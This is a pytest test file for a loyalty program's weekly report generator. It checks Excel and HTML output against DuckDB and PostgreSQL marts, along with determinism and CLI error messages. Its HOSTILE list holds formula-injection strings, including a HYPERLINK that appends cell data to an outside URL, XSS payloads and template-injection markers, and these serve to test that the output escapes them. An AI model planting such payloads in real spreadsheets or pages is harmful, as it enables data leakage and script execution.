"""The weekly pack: the workbook against the marts, and what `koin pack` and `make build` say."""

from __future__ import annotations

import dataclasses
import json
import math
import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from engines import Build
from openpyxl.worksheet.worksheet import Worksheet
from packs import environment, marts_of, need_programs, pack_of
from test_cli import koin

from koin_loyalty import build as build_command
from koin_loyalty import postgres
from koin_loyalty.pack import Pack, write_pack
from koin_loyalty.pack.marts import open_marts, read_target
from koin_loyalty.pack.screenshots import convert
from koin_loyalty.pack.tables import Kind, week_label
from koin_loyalty.pack.texts import restatement_words, shown
from koin_loyalty.pack.workbook import write_workbook

Values = list[Any]
#: Headers below which text of digits is meant: codes keep their leading zeros.
CODE_HEADERS = {"SKU", "Its code", "Best SKU"}
WORDS = {
    "incomplete": "incomplete week",
    "first_week": "first week",
    "not_meaningful": "not meaningful",
    "flat_zero": "still 0",
    "new": "new",
}
TIERS = ["SILVER", "GOLD", "PLATINUM", "UNKNOWN"]
NAMES = {
    "ALL": "All",
    "ADJUSTMENT": "Adjustment",
    "UNATTRIBUTED": "Unattributed",
    "UNASSIGNED": "Unassigned",
}


@pytest.fixture(scope="module")
def pack(duckdb_build: Build) -> Pack:
    """The pack of AZKO and the last week."""
    return pack_of(duckdb_build)


@pytest.fixture(scope="module")
def workbook_file(pack: Pack, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_pack(pack, tmp_path_factory.mktemp("pack")).workbook


@pytest.fixture(scope="module")
def workbook(workbook_file: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(workbook_file)


@pytest.fixture(scope="module")
def marts(duckdb_build: Build) -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect(duckdb_build.env["LOYALTY_DUCKDB_PATH"], read_only=True) as connection:
        yield connection


def rows_of(marts: duckdb.DuckDBPyConnection, sql: str, *values: Any) -> list[dict[str, Any]]:
    found = marts.execute(sql, values)
    columns = [column[0] for column in found.description]
    return [dict(zip(columns, row, strict=True)) for row in found.fetchall()]


def section(sheet: Worksheet, title: str, width: int, *, has_header: bool = False) -> list[Values]:
    """The cells of a section: from below its title to the next empty row."""
    start = next(row for row in range(1, sheet.max_row + 1) if sheet.cell(row, 1).value == title)
    found = []
    for row in range(start + 1 + has_header, sheet.max_row + 2):
        cells = [sheet.cell(row, column).value for column in range(1, width + 1)]
        if all(value is None for value in cells):
            return found
        found.append(cells)
    raise AssertionError(f"section {title} does not end")


def expected(row: dict[str, Any], columns: Sequence[str]) -> Values:
    """A mart's row as it stands in the sheet: `<m>_wow` is the change, or why there is none."""
    values = []
    for column in columns:
        if column == "week":
            year, week, _ = row["week_start"].isocalendar()
            values.append(f"{year}-W{week:02d}")
        elif column == "":
            values.append(None)
        elif column.endswith("wow"):
            words = WORDS.get(row[f"{column}_status"])
            values.append(words if row[column] is None else row[column])
        else:
            values.append(row.get(column))
    return values


def assert_same(found: list[Values], wanted: list[Values]) -> None:
    assert len(found) == len(wanted)
    for found_row, wanted_row in zip(found, wanted, strict=True):
        for value, want in zip(found_row, wanted_row, strict=True):
            if isinstance(want, Decimal | int) and not isinstance(want, bool):
                assert isinstance(value, int | float), (found_row, wanted_row)
                assert math.isclose(value, float(want), rel_tol=1e-14), (found_row, wanted_row)
            elif isinstance(want, date):
                assert value == datetime(want.year, want.month, want.day)
            else:
                assert value == want, (found_row, wanted_row)


PAY = [
    *("week", "tier"),
    *("member_count", "member_count_wow", "transaction_count", "transaction_count_wow"),
    *("net_sales", "net_sales_wow", "koin_redeemed", "koin_redeemed_wow"),
    *("koin_multiplier", "koin_multiplier_wow"),
    *("avg_koin_per_transaction", "avg_koin_per_transaction_wow"),
    *("koin_share_of_sales", "repeat_member_count", "bu_member_transaction_count"),
    *("share_of_bu_member_transactions", "bu_net_sales", "share_of_bu_sales"),
]


def test_pay_with_koin_is_the_mart(
    pack: Pack, workbook: openpyxl.Workbook, marts: duckdb.DuckDBPyConnection
) -> None:
    sheet = workbook["Pay with Koin"]
    sql = """
        select *, case when tier_code = 'ALL' then 'All tiers'
            else tier_code[1] || lower(tier_code[2:]) end as tier
        from weekly_reports.weekly_pay_with_koin
        where bu_code = 'AZKO' and week_start > ? and week_start <= ?
        order by week_start
    """
    last = pack.scope.week_start
    rows = rows_of(marts, sql, last - timedelta(weeks=12), last)
    order = [*TIERS, "ALL"]
    week = sorted(
        (row for row in rows if row["week_start"] == last),
        key=lambda row: order.index(row["tier_code"]),
    )
    found = section(sheet, f"Week {pack.scope.label}, by tier", len(PAY))
    assert_same(found, [expected(row, PAY) for row in week])
    for tier in order:
        name = "all tiers" if tier == "ALL" else tier.capitalize()
        trend = [row for row in rows if row["tier_code"] == tier]
        assert len(trend) == 12
        found = section(sheet, f"Last 12 weeks: {name}", len(PAY))
        assert_same(found, [expected(row, PAY) for row in trend])


CHOICE_MEASURES = [
    *("net_sales", "net_sales_wow", "share_of_period_sales"),
    *("transaction_count", "transaction_count_wow", "qty", "qty_wow"),
    *("member_count", "member_count_wow"),
]
CHOICE = [
    *("sales_rank", "sales_rank_previous", "rank_change"),
    *("sku", "product_name", "category", "brand", "special_price"),
    *CHOICE_MEASURES,
]
SPECIAL = [
    *("qty_rank", "sku", "product_name", "koin_price", "normal_price"),
    *("koin_used", "koin_used_wow", "qty", "qty_wow"),
    *("transaction_count", "member_count", "value_given_away"),
]
CHOICE_TREND = [
    *("sku_offered", "sku_sold", "", "week", "period_code", "best_sku_name", "best_sku"),
    *("best_sku_net_sales", *CHOICE_MEASURES),
]
SPECIAL_TREND = [
    *("sku_offered", "week", "period_code", "sku_sold", "best_sku_koin"),
    *("koin_used", "koin_used_wow", "qty", "qty_wow", "transaction_count", "member_count"),
    *("value_given_away", "transaction_count_wow", "member_count_wow"),
    *("best_sku", "best_sku_name", "best_sku_qty"),
]


@pytest.mark.parametrize(
    ("name", "mart", "summary_mart", "rank", "columns", "trend_columns"),
    [
        (
            "Member's Choice",
            "weekly_members_choice",
            "weekly_members_choice_summary",
            "sales_rank",
            CHOICE,
            CHOICE_TREND,
        ),
        (
            "Harga Spesial Koin",
            "weekly_harga_spesial_koin_skus",
            "weekly_harga_spesial_koin",
            "qty_rank",
            SPECIAL,
            SPECIAL_TREND,
        ),
    ],
)
def test_lists_are_the_marts(
    pack: Pack,
    workbook: openpyxl.Workbook,
    marts: duckdb.DuckDBPyConnection,
    name: str,
    mart: str,
    summary_mart: str,
    rank: str,
    columns: list[str],
    trend_columns: list[str],
) -> None:
    sheet = workbook[name]
    last = pack.scope.week_start
    sql = "select * from weekly_reports.{} where bu_code = 'AZKO' and {} order by {}"
    summaries = rows_of(
        marts,
        sql.format(summary_mart, "week_start > ? and week_start <= ?", "week_start, period_code"),
        last - timedelta(weeks=12),
        last,
    )
    of_week = [row for row in summaries if row["week_start"] == last]
    assert of_week
    for summary in of_week:
        period = summary["period_code"]
        skus = rows_of(
            marts, sql.format(mart, "week_start = ? and period_code = ?", rank), last, period
        )
        total = summary | {
            "sku": "All SKUs",
            "product_name": f"{summary['sku_sold']} of {summary['sku_offered']} offered were sold",
        }
        found = section(sheet, f"Week {pack.scope.label}, list {period}", len(columns))
        assert_same(found, [expected(row, columns) for row in [*skus, total]])
    found = section(sheet, "Last 12 weeks: whole lists", len(trend_columns), has_header=True)
    assert_same(found, [expected(row, trend_columns) for row in summaries])


IN_OUT = [
    *("a_issued_here_redeemed_elsewhere", "b_issued_elsewhere_redeemed_here"),
    *("c_issued_and_redeemed_here", "d_issued_here", "net_in_out"),
]
IN_OUT_WEEKS = [
    *("week", *IN_OUT, "in_out_ratio", "net_ratio", "issue_reversed_here"),
    *("adjustment_redeemed_here", "unattributed_redeemed_here"),
    "issued_here_redeemed_at_excluded_bu",
]


def test_koin_in_out_has_the_teams_layout(
    pack: Pack, workbook: openpyxl.Workbook, marts: duckdb.DuckDBPyConnection
) -> None:
    sheet = workbook["Koin In-Out"]
    column_a = [sheet.cell(row, 1).value for row in range(1, 10)]
    assert column_a[2:] == [
        "Keterangan",
        "A. Koin yang di issue dari AZKO tapi di redeem di BU lain",
        "B. Koin yang di issue dari BU lain tapi di redeem di AZKO",
        "C. Koin yang di issue dari AZKO dan di redeem di AZKO",
        "D. Koin yang di issue dari AZKO",
        "Note : Tanpa redemption di 'ODI'",
        "Time",
    ]
    header = [sheet.cell(9, column).value for column in range(1, 7)]
    assert header == ["Time", "A", "B", "C", "D", "In - Out"]
    last = pack.scope.week_start
    days = rows_of(
        marts,
        """
        select * from weekly_reports.daily_koin_in_out
        where bu_code = 'AZKO' and redemption_date between ? and ? order by redemption_date
        """,
        last - timedelta(weeks=3),
        last + timedelta(days=6),
    )
    assert len(days) == 28
    found = section(sheet, "Last 4 weeks, day by day", 6)
    assert_same(found, [expected(row, ["redemption_date", *IN_OUT]) for row in days])
    weeks = rows_of(
        marts,
        """
        select * from weekly_reports.weekly_koin_in_out
        where bu_code = 'AZKO' and week_start > ? and week_start <= ? order by week_start
        """,
        last - timedelta(weeks=4),
        last,
    )
    found = section(sheet, "Totals of these weeks", len(IN_OUT_WEEKS), has_header=True)
    assert_same(found, [expected(row, IN_OUT_WEEKS) for row in weeks])
    (changes,) = section(sheet, f"Week {pack.scope.label} against the week before", 6)
    assert_same([changes], [["WoW", *expected(weeks[-1], [f"{column}_wow" for column in IN_OUT])]])


def test_koin_flow_is_the_mart(
    pack: Pack, workbook: openpyxl.Workbook, marts: duckdb.DuckDBPyConnection
) -> None:
    flows = rows_of(
        marts,
        "select * from weekly_reports.weekly_koin_flow_matrix where week_start = ?",
        pack.scope.week_start,
    )
    koin = {(row["issue_bu_code"], row["redeem_bu_code"]): row["koin"] for row in flows}
    sheet = workbook["Koin flow"]
    header = [sheet.cell(4, column).value for column in range(1, sheet.max_column + 1)]
    width = header.index("All") + 1
    matrix = section(sheet, f"Week {pack.scope.label}, koin", width)
    names = {NAMES.get(issuer, issuer): issuer for issuer, _ in koin}
    cells = {
        (names[line[0]], redeemer): value
        for line in matrix[:-1]
        for redeemer, value in zip(header[1 : width - 1], line[1:-1], strict=True)
        if value is not None
    }
    assert cells == koin
    for line in matrix[:-1]:
        assert line[-1] == sum(value for pair, value in koin.items() if pair[0] == names[line[0]])
    for redeemer, total in zip(header[1 : width - 1], matrix[-1][1:-1], strict=True):
        assert total == sum(value for pair, value in koin.items() if pair[1] == redeemer)
    assert matrix[-1][-1] == sum(koin.values())
    found = section(workbook["Koin flow pairs"], f"Week {pack.scope.label}", 5)
    wanted = [
        [
            NAMES.get(row["issue_bu_code"], row["issue_bu_code"]),
            row["redeem_bu_code"],
            *(row[name] for name in ("koin", "transaction_count", "member_count")),
        ]
        for row in flows
    ]
    assert_same(sorted(found), sorted(wanted))
    assert found[0][0] == "AZKO"


OUTSTANDING = [
    *("week", "tier", "manager", "member_count", "member_count_wow"),
    *("koin_outstanding", "koin_outstanding_wow", "avg_koin_per_member", "share_of_koin"),
    *("overdue_koin", "active_koin", "koin_expiring_30d", "koin_expiring_60d"),
    *("koin_expiring_90d", "negative_member_count", "negative_koin"),
]


def test_koin_beredar_is_the_mart(
    pack: Pack, workbook: openpyxl.Workbook, marts: duckdb.DuckDBPyConnection
) -> None:
    sheet = workbook["Koin Beredar"]
    last = pack.scope.week_start
    rows = rows_of(
        marts,
        """
        select *,
            case when tier_code = 'ALL' then 'All tiers'
                else tier_code[1] || lower(tier_code[2:]) end as tier,
            case area_manager when 'ALL' then 'All area managers'
                when 'UNASSIGNED' then 'Unassigned' else area_manager end as manager
        from weekly_reports.weekly_koin_outstanding
        where bu_code = 'AZKO' and week_start > ? and week_start <= ? order by week_start
        """,
        last - timedelta(weeks=12),
        last,
    )
    of_week = [row for row in rows if row["week_start"] == last]
    managers = sorted(
        {row["area_manager"] for row in of_week} - {"ALL"},
        key=lambda name: (name == "UNASSIGNED", name),
    )
    place = {name: index for index, name in enumerate([*managers, "ALL"])}
    tiers = {name: index for index, name in enumerate([*TIERS, "ALL"])}

    def check(title: str, kept: Callable[[dict[str, Any]], bool]) -> None:
        wanted = sorted(
            filter(kept, of_week),
            key=lambda row: (place[row["area_manager"]], tiers[row["tier_code"]]),
        )
        found = section(sheet, f"End of week {pack.scope.label}, {title}", len(OUTSTANDING))
        assert_same(found, [expected(row, OUTSTANDING) for row in wanted])

    check("by tier", lambda row: row["area_manager"] == "ALL")
    check("by area manager", lambda row: row["tier_code"] == "ALL")
    check(
        "by area manager and tier",
        lambda row: (row["area_manager"] == "ALL") == (row["tier_code"] == "ALL"),
    )
    trend = [row for row in rows if (row["tier_code"], row["area_manager"]) == ("ALL", "ALL")]
    found = section(sheet, "Last 12 weeks: all members", len(OUTSTANDING))
    assert_same(found, [expected(row, OUTSTANDING) for row in trend])


ROLL_FORWARD = [
    *("week", "issuer", "opening", "issued", "issue_reversed", "redeemed", "redeem_reversed"),
    *("expired", "adjusted", "closing", "burn_earn_ratio", "expiry_rate"),
]


def test_roll_forward_is_the_mart(
    pack: Pack, workbook: openpyxl.Workbook, marts: duckdb.DuckDBPyConnection
) -> None:
    sheet = workbook["Koin roll-forward"]
    last = pack.scope.week_start
    rows = rows_of(
        marts,
        """
        select *, case issue_bu_code when 'ALL' then 'All issuers'
            when 'ADJUSTMENT' then 'Adjustment' when 'UNATTRIBUTED' then 'Unattributed'
            else issue_bu_code end as issuer
        from weekly_reports.weekly_koin_roll_forward
        where week_start > ? and week_start <= ? order by week_start
        """,
        last - timedelta(weeks=12),
        last,
    )
    found = section(sheet, f"Week {pack.scope.label}, by issuer", len(ROLL_FORWARD))
    wanted = [expected(row, ROLL_FORWARD) for row in rows if row["week_start"] == last]
    assert found[0][1] == "AZKO"
    assert found[-1][1] == "All issuers"
    by_issuer = {line[1]: line for line in wanted}
    assert len(found) == len(by_issuer)
    assert_same(found, [by_issuer[line[1]] for line in found])
    for title, issuer in (("all issuers", "ALL"), ("issued by AZKO", "AZKO")):
        found = section(sheet, f"Last 12 weeks: {title}", len(ROLL_FORWARD))
        wanted = [expected(row, ROLL_FORWARD) for row in rows if row["issue_bu_code"] == issuer]
        assert_same(found, wanted)


def test_cover_has_every_headline_of_the_kpi_mart(
    pack: Pack, workbook: openpyxl.Workbook, marts: duckdb.DuckDBPyConnection
) -> None:
    sheet = workbook["Cover"]
    assert sheet["A1"].value == f"AZKO weekly report {pack.scope.label}"
    kpis = rows_of(
        marts,
        """
        select value, value_previous, wow, wow_status from weekly_reports.weekly_kpis
        where bu_code = 'AZKO' and week_start = ?
            and (dimension in ('all', 'period') or (dimension, dimension_value) = ('tier', 'ALL'))
        """,
        pack.scope.week_start,
    )
    found = []
    row = 6
    while sheet.cell(row, 3).value is not None:
        found.append([sheet.cell(row, column).value for column in (4, 5, 6)])
        row += 1
    wanted = [[k["value"], k["value_previous"], *expected(k, ["wow"])] for k in kpis]
    wanted = [
        [None if v is None else v if isinstance(v, str) else float(v) for v in line]
        for line in wanted
    ]
    assert sorted(map(repr, map(rounded, found))) == sorted(map(repr, map(rounded, wanted)))
    assert len(found) >= 15


def rounded(values: Values) -> Values:
    return [f"{value:.10g}" if isinstance(value, int | float) else value for value in values]


def test_no_formula_and_no_number_as_text(workbook: openpyxl.Workbook) -> None:
    number = re.compile(r"^\s*(Rp)?\s*[-+]?[\d.,]+\s*%?\s*$")
    for sheet in workbook:
        header: dict[int, Any] = {}
        for row in sheet.iter_rows():
            for cell in row:
                if cell.fill.fgColor.rgb == "FF0B4F6C":
                    header[cell.column] = cell.value
                assert cell.data_type not in ("f", "e"), cell
                if isinstance(cell.value, str) and number.match(cell.value):
                    assert header.get(cell.column) in CODE_HEADERS, (sheet.title, cell)


def test_sheets_are_set_up_for_reading_and_paper(workbook: openpyxl.Workbook) -> None:
    assert workbook.sheetnames == [
        "Cover",
        "Pay with Koin",
        "Member's Choice",
        "Koin In-Out",
        "Koin flow",
        "Koin flow pairs",
        "Koin Beredar",
        "Koin roll-forward",
        "Harga Spesial Koin",
    ]
    for sheet in workbook:
        assert sheet.freeze_panes is not None
        assert sheet.print_title_rows is not None
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToWidth in (None, 1)
        assert sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        if sheet.title not in ("Cover", "Koin flow pairs"):
            assert sheet._charts, sheet.title
    formats = {cell.number_format for row in workbook["Pay with Koin"].iter_rows() for cell in row}
    assert '"Rp" #,##0;[Red]"Rp" -#,##0' in formats
    assert "+0.0%;-0.0%;0.0%" in formats


def test_same_data_give_the_same_bytes(
    pack: Pack, duckdb_build: Build, tmp_path: Path, workbook_file: Path
) -> None:
    again = write_pack(pack_of(duckdb_build), tmp_path)
    assert again.workbook.name == f"AZKO weekly report {pack.scope.label}.xlsx"
    assert again.page.name == f"AZKO weekly report {pack.scope.label}.html"
    assert again.workbook.read_bytes() == workbook_file.read_bytes()
    assert again.page.read_bytes() == workbook_file.with_suffix(".html").read_bytes()
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        again.page.name,
        again.workbook.name,
    ]
    created = openpyxl.load_workbook(again.workbook).properties.created
    assert created == pack.last_loaded_at.replace(microsecond=0)


def test_every_engine_gives_the_same_pack(
    pack: Pack, postgres_build: Build, duckdb_postgres_build: Build, tmp_path: Path
) -> None:
    files = write_pack(pack, tmp_path / "duckdb")
    for build in (postgres_build, duckdb_postgres_build):
        same = write_pack(pack_of(build), tmp_path / build.target)
        assert same.workbook.read_bytes() == files.workbook.read_bytes()
        assert same.page.read_bytes() == files.page.read_bytes()


def test_every_business_unit_and_the_first_week_have_a_pack(
    duckdb_build: Build, marts: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    units = [
        row["bu_code"]
        for row in rows_of(marts, "select distinct bu_code from weekly_reports.weekly_koin_in_out")
    ]
    ((first, last),) = marts.execute(
        "select min(week_start), max(week_start) from core.dim_weeks where is_complete_week"
    ).fetchall()
    assert len(units) >= 7
    for unit, week in [*((unit, last) for unit in units), ("AZKO", first), ("UNKNOWN", first)]:
        made = write_pack(pack_of(duckdb_build, unit, week), tmp_path)
        cover = openpyxl.load_workbook(made.workbook, read_only=True)["Cover"]
        assert cover["A1"].value.startswith(unit)


HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 1">',
    "</script><script>window.pwned = 1</script>",
    "\"'><svg onload=window.pwned=1>",
    "{{ 7 * 7 }} {% raw %} %{x} ${1} $x$",
    "<a href='javascript:window.pwned=1'>Tang</a>",
    "\u202eنص من اليمين\u202d אבג",
    "Tang\u200b\u200d\ufeff\u2060Plus",
    "Panjang " * 1250,
    "A & B <b>C</b> &lt;D&gt; &#39;",
    "http://example.com/a",
    "\tTab\nNew line\r\n\x07 end",
]


def hostile(pack: Pack) -> Pack:
    """The pack with hostile texts wherever a text comes from the data."""
    texts = iter(HOSTILE * 1000)
    names = ("product_name", "category", "brand", "manager", "best_sku_name")

    def changed(row: dict[str, Any]) -> dict[str, Any]:
        return row | {name: next(texts) for name in names if row.get(name)}

    reports = [
        dataclasses.replace(
            report,
            sections=[
                dataclasses.replace(
                    part,
                    rows=[changed(row) for row in part.rows],
                    total=part.total and changed(part.total),
                )
                for part in report.sections
            ],
        )
        for report in pack.reports
    ]
    scope = dataclasses.replace(pack.scope, bu_name='<b>Kota</b> & "Co" \u202e=1+1')
    return dataclasses.replace(pack, reports=reports, scope=scope)


def test_hostile_texts_stay_texts_in_the_workbook(pack: Pack, tmp_path: Path) -> None:
    changed = hostile(pack)
    file = tmp_path / "hostile.xlsx"
    write_workbook(changed, file)
    book = openpyxl.load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type in ("f", "e")]
    assert all(
        cell.hyperlink is None or cell.hyperlink.target is None
        for cell in cells
        if not isinstance(cell, openpyxl.cell.cell.MergedCell)
    )
    found = {cell.value for cell in cells if isinstance(cell.value, str)}
    for text in HOSTILE[:-1]:
        assert text in found
    # The longest text that a cell can hold is cut, not lost.
    too_long = dataclasses.replace(pack.scope, bu_name="x" * 40_000)
    write_workbook(dataclasses.replace(pack, scope=too_long), file)
    assert len(openpyxl.load_workbook(file)["Cover"]["A2"].value) <= 32_767


def in_words(text: str) -> list[str]:
    """A text without white space, of which programs keep carriage returns in their own ways."""
    return text.replace("_x000D_", " ").split()


def test_recalculation_changes_nothing(pack: Pack, workbook_file: Path, tmp_path: Path) -> None:
    """In an office program of its own: no error, no text that became a formula or a number."""
    need_programs(("soffice",))
    write_workbook(hostile(pack), tmp_path / "hostile.xlsx")
    (tmp_path / "out").mkdir()
    originals = [workbook_file, tmp_path / "hostile.xlsx"]
    for file, recalculated in zip(
        originals, convert(originals, "xlsx", tmp_path / "out"), strict=True
    ):
        original = openpyxl.load_workbook(file)
        after = openpyxl.load_workbook(recalculated)
        assert after.sheetnames == original.sheetnames
        for sheet in original:
            for row in sheet.iter_rows():
                for cell in row:
                    twin = after[sheet.title].cell(cell.row, cell.column)
                    assert twin.data_type not in ("f", "e"), twin
                    if isinstance(cell.value, int | float):
                        assert math.isclose(twin.value, cell.value, rel_tol=1e-12)
                    elif isinstance(cell.value, str):
                        assert isinstance(twin.value, str)
                        assert in_words(twin.value) == in_words(cell.value)
                    else:
                        assert twin.value == cell.value, (sheet.title, cell.coordinate)


# Restatements, and weeks that have no pack: a copy of the build, changed.


@pytest.fixture
def changed_build(duckdb_build: Build, tmp_path: Path) -> Callable[..., Build]:
    """Copies the DuckDB build, runs statements on the copy, and gives it back as a build."""

    def change(*statements: str) -> Build:
        copy = tmp_path / "changed.duckdb"
        shutil.copyfile(duckdb_build.env["LOYALTY_DUCKDB_PATH"], copy)
        with duckdb.connect(str(copy)) as connection:
            for statement in statements:
                connection.execute(statement)
        env = {**duckdb_build.env, "LOYALTY_DUCKDB_PATH": str(copy)}
        return dataclasses.replace(duckdb_build, env=env)

    return change


def restated(
    week: str, bu: str = "AZKO", report: str = "pay_with_koin", dimension: str = "tier",
    part: str = "ALL", kpi: str = "net_sales", seconds: int = 1,
) -> str:  # fmt: skip
    return f"""
        insert into weekly_reports.weekly_kpi_restatements
        select {week}, '{bu}', '{report}', '{dimension}', '{part}', '{kpi}',
            min(published_at) + interval {seconds} second, 100.5, 90, -10.5, true
        from weekly_reports.weekly_kpi_publications
    """


LAST = "(select max(week_start) from core.dim_weeks)"


def test_restatements_since_the_pack_before(
    changed_build: Callable[..., Build], pack: Pack, tmp_path: Path
) -> None:
    """Those of the business unit and of weeks up to the pack, since the pack before."""
    before = "(select max(week_start) - interval 7 day from core.dim_weeks)"
    build = changed_build(
        restated(before),
        restated(before, part="GOLD"),
        restated(before, kpi="koin_redeemed", seconds=0),
        restated(before, bu="TOYS"),
        restated(LAST, report="koin_in_out", dimension="all", kpi="net_in_out"),
    )
    week = pack.scope.week_start
    of_last = pack_of(build)
    assert [
        (r.row["week_start"], r.row["kpi"], r.row["dimension_value"], r.is_headline)
        for r in of_last.restatements
    ] == [
        (week, "net_in_out", "ALL", True),
        (week - timedelta(weeks=1), "net_sales", "ALL", True),
        (week - timedelta(weeks=1), "net_sales", "GOLD", False),
    ]
    of_before = pack_of(build, week=week - timedelta(weeks=1))
    assert len(of_before.restatements) == 2

    files = write_pack(of_last, tmp_path / "out")
    book = openpyxl.load_workbook(files.workbook)
    sheet = book["Restatements"]
    assert sheet.max_row == 7
    label = (week - timedelta(weeks=1)).isocalendar()
    assert [cell.value for cell in sheet[6]][:7] == [
        f"{label[0]}-W{label[1]:02d}",
        "Pay with Koin",
        "Net sales of these transactions",
        "tier ALL",
        100.5,
        90,
        -10.5,
    ]
    texts = [cell.value for row in book["Cover"].iter_rows() for cell in row]
    said = next(text for text in texts if isinstance(text, str) and "restated since" in text)
    assert said.startswith("3 published figures were restated since")
    assert said.endswith("2 of them are headline figures.")
    assert texts.count(-10.5) == 2
    assert "Restated figures" in files.page.read_text()


def test_restatements_of_the_build_that_published_several_weeks(
    changed_build: Callable[..., Build], pack: Pack
) -> None:
    """Builds failed for two weeks; the next publishes three, and restates what managers had."""
    last = pack.scope.week_start
    had = last - timedelta(weeks=3)
    late = "interval 21 day"
    build = changed_build(
        f"update weekly_reports.weekly_kpi_publications set published_at = published_at + {late}"
        f" where week_start > date '{had}'",
        restated(f"date '{had}'", seconds=21 * 86_400),
    )
    for weeks in range(3):
        behind = pack_of(build, week=last - timedelta(weeks=weeks))
        assert behind.previous
        assert behind.previous.week_start == had
        (found,) = behind.restatements
        assert found.row["week_start"] == had
        assert f"1 published figure was restated since {week_label(had)} was published" in (
            restatement_words(behind)
        )
    # The week that managers had, and the next one: as ever, since the week before.
    of_had = pack_of(build, week=had)
    assert of_had.previous
    assert of_had.previous.week_start == had - timedelta(weeks=1)
    later = "interval 28 day"
    usual = changed_build(
        f"update weekly_reports.weekly_kpi_publications set published_at = published_at + {late}"
        f" where week_start = date '{last - timedelta(weeks=1)}'",
        f"update weekly_reports.weekly_kpi_publications set published_at = published_at + {later}"
        f" where week_start = date '{last}'",
        restated(f"date '{had}'", seconds=21 * 86_400),
    )
    of_last = pack_of(usual)
    assert of_last.previous
    assert of_last.previous.week_start == last - timedelta(weeks=1)
    assert "No published figure was restated since" in restatement_words(of_last)


def test_first_week_has_nothing_to_restate(duckdb_build: Build) -> None:
    with marts_of(duckdb_build) as marts:
        first = min(row["week_start"] for row in marts.rows("core.dim_weeks", "is_complete_week"))
    first_pack = pack_of(duckdb_build, week=first)
    assert first_pack.previous is None
    assert restatement_words(first_pack) == (
        f"No week was published before {first_pack.scope.label}: nothing to restate."
    )
    assert list(first_pack.restatements) == []
    assert {h.row["wow_status"] for h in first_pack.headlines} <= {"first_week", "incomplete"}


def test_weeks_without_pack_are_told_in_one_line(
    changed_build: Callable[..., Build], pack: Pack, tmp_path: Path
) -> None:
    last = pack.scope.week_start
    build = changed_build(
        f"update core.dim_weeks set is_complete_week = false where week_start = {LAST}"
    )
    env = {name: build.env[name] for name in ("DBT_PROFILES_DIR", "LOYALTY_DUCKDB_PATH")}

    def run(*arguments: str, **more: str) -> str:
        status, _, error = koin("pack", "--out", str(tmp_path / "none"), *arguments, **(env | more))
        assert status == 1
        assert error.startswith("Error: ")
        assert error.count("\n") == 1
        return error

    assert f"the week {last} is not complete" in run("--week", str(last))
    assert f"give the Monday of its week, {last}" in run("--week", str(last + timedelta(days=3)))
    assert "no data for the week 2001-01-01" in run("--week", "2001-01-01")
    assert "'6 Oct' is no date" in run("--week", "6 Oct")
    assert "no business unit 'azko': there are ATARU, AZKO" in run("--bu", "azko")
    assert "has no target spark" in run("--target", "spark")
    nowhere = str(tmp_path / "nowhere.duckdb")
    not_built = run(LOYALTY_DUCKDB_PATH=nowhere)
    assert "the marts are not built yet" in not_built
    assert "run dbt build --target duckdb" in not_built
    empty = tmp_path / "empty.duckdb"
    duckdb.connect(str(empty)).close()
    assert "quality.data_freshness is not in" in run(LOYALTY_DUCKDB_PATH=str(empty))
    assert "cannot open" in run(LOYALTY_DUCKDB_PATH=str(Path(__file__)))
    assert not (tmp_path / "none").exists()

    status, out, error = koin("pack", "--out", str(tmp_path / "made"), **env)
    assert (status, error) == (0, "")
    week = last - timedelta(weeks=1)
    name = "AZKO weekly report {}-W{:02d}".format(*week.isocalendar()[:2])
    assert {path.name for path in (tmp_path / "made").iterdir()} == {f"{name}.xlsx", f"{name}.html"}
    assert f"{name}.xlsx" in out
    assert f"{name}.html" in out


@pytest.mark.parametrize(
    ("mart", "column"),
    [
        # In a cell, a change, a whole list, on the cover, in a condition, before any report.
        ("weekly_reports.weekly_pay_with_koin", "repeat_member_count"),
        ("weekly_reports.weekly_members_choice", "qty_wow_status"),
        ("weekly_reports.weekly_harga_spesial_koin", "value_given_away"),
        ("weekly_reports.weekly_kpis", "value_previous"),
        ("weekly_reports.daily_koin_in_out", "redemption_date"),
        ("core.dim_business_units", "is_in_koin_in_out"),
    ],
)
def test_marts_of_an_older_version_are_told_in_one_line(
    changed_build: Callable[..., Build], tmp_path: Path, mart: str, column: str
) -> None:
    build = changed_build(f"alter table {mart} drop column {column}")
    env = {name: build.env[name] for name in ("DBT_PROFILES_DIR", "LOYALTY_DUCKDB_PATH")}
    status, _, error = koin("pack", "--out", str(tmp_path / "none"), **env)
    assert status == 1
    assert error == f"Error: {mart} lacks column {column}: run dbt build --target duckdb\n"
    assert not (tmp_path / "none").exists()


def test_an_unreachable_server_is_told_in_one_line(tmp_path: Path, duckdb_build: Build) -> None:
    status, _, error = koin(
        *("pack", "--target", "postgres"),
        DBT_PROFILES_DIR=duckdb_build.env["DBT_PROFILES_DIR"],
        PGHOST=str(tmp_path),
        PGPORT="1",
    )
    assert status == 1
    assert error.startswith("Error: cannot reach PostgreSQL")
    assert error.count("\n") == 1


def test_the_profile_says_where_the_marts_are(postgres_build: Build, tmp_path: Path) -> None:
    """Also where the environment speaks of another database."""
    profile = (Path(postgres_build.env["DBT_PROFILES_DIR"]) / "profiles.yml").read_text()
    for option, variable in postgres.OPTIONS.items():
        value = json.dumps(postgres_build.env[variable])
        profile = re.sub(rf"(?m)^      {option}: .*$", f"      {option}: {value}", profile)
    (tmp_path / "profiles.yml").write_text(profile)
    elsewhere = {"PGHOST": str(tmp_path), "PGDATABASE": "template1"}
    env = {**postgres_build.env, **elsewhere, "DBT_PROFILES_DIR": str(tmp_path)}
    with marts_of(dataclasses.replace(postgres_build, env=env)) as marts:
        assert marts.target.place.endswith(f"/{postgres_build.env['PGDATABASE']}")
        assert marts.rows("quality.data_freshness")


